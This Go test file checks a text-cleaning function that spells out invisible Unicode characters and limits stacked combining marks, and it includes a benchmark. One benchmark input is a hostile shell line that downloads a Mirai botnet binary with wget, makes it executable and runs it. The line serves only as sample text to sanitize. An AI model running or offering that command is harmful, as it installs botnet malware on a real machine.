package event

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// spelled is how a character that can't be seen is shown.
func spelled(r rune) string {
	switch {
	case r < 0x80:
		return fmt.Sprintf(`\x%02x`, r)
	case r > 0xffff:
		return fmt.Sprintf(`\U%08x`, r)
	default:
		return fmt.Sprintf(`\u%04x`, r)
	}
}

// Every character of Unicode that leaves nothing to see is spelled out, and no
// letter, number, punctuation or symbol is but the empty braille pattern. The
// ranges are those of DerivedCoreProperties.txt, Default_Ignorable_Code_Point.
func TestUnseenCharactersAreSpelledOut(t *testing.T) {
	ignorable := [][2]rune{
		{0xad, 0xad},
		{0x34f, 0x34f},
		{0x61c, 0x61c},
		{0x115f, 0x1160},
		{0x17b4, 0x17b5},
		{0x180b, 0x180f},
		{0x200b, 0x200f},
		{0x202a, 0x202e},
		{0x2060, 0x206f},
		{0x3164, 0x3164},
		{0xfe00, 0xfe0f},
		{0xfeff, 0xfeff},
		{0xffa0, 0xffa0},
		{0xfff0, 0xfff8},
		{0x1bca0, 0x1bca3},
		{0x1d173, 0x1d17a},
		{0xe0000, 0xe0fff},
	}
	var a Arena
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue
		}
		hidden := r == 0x2800 || r < 0x20 || r >= 0x7f && r < 0xa0 || r == 0x2028 || r == 0x2029
		for _, x := range ignorable {
			hidden = hidden || r >= x[0] && r <= x[1]
		}
		text := "a" + string(r) + "b"
		got, cut := a.Clean(text, MaxValue)
		switch {
		case cut:
			t.Fatalf("%U was cut", r)
		case hidden:
			want := "a" + spelled(r) + "b"
			if r >= 0x7f && r < 0xa0 && r != 0x7f {
				want = fmt.Sprintf(`a\u%04xb`, r)
			}
			if got != want {
				t.Fatalf("%U is shown as %q, want %q", r, got, want)
			}
		case !unicode.Is(unicode.Cf, r) && got != text:
			t.Fatalf("%U can be seen and is shown as %q", r, got)
		}
		if again, _ := a.Clean(got, MaxValue); again != got {
			t.Fatalf("%U: cleaned again it is %q", r, again)
		}
		a.Reset()
	}
}

// Marks that are stacked on one character cover the lines above: beyond four
// they are spelled out, whatever marks they are.
func TestStackedMarksAreSpelledOut(t *testing.T) {
	var a Arena
	for _, marks := range []string{
		strings.Repeat("\u0301", 40), strings.Repeat("\u20dd", 12), strings.Repeat("\u0e49", 9),
		strings.Repeat("\u0301\u0323\u20dd\U0001e8d0", 5),
	} {
		got, cut := a.Clean("x"+marks+"y", MaxCommand)
		n := 0
		for _, r := range got {
			if unicode.In(r, unicode.Mn, unicode.Me) {
				n++
			}
		}
		if total := utf8.RuneCountInString(marks); cut || n != maxMarks || strings.Count(got, `\`) != total-maxMarks {
			t.Errorf("%q is shown as %q", marks, got)
		}
	}
	// Vietnamese, Hebrew with points and cantillation, Thai, Arabic.
	for _, text := range []string{"Việt Nam", "Vie\u0302\u0323t", "בְּרֵאשִׁ֖ית", "ที่นี่", "مُحَمَّدٌ"} {
		if got, _ := a.Clean(text, MaxValue); got != text {
			t.Errorf("%q is shown as %q", text, got)
		}
	}
}

func BenchmarkClean(b *testing.B) {
	var a Arena
	for name, text := range map[string]string{
		"ascii":   "wget http://203.0.113.7/bins/mirai.x86 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x",
		"unicode": "curl -d 'имя=Иван' http://пример.example/путь; echo größe Việt",
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				a.Clean(text, MaxCommand)
			}
		})
	}
}
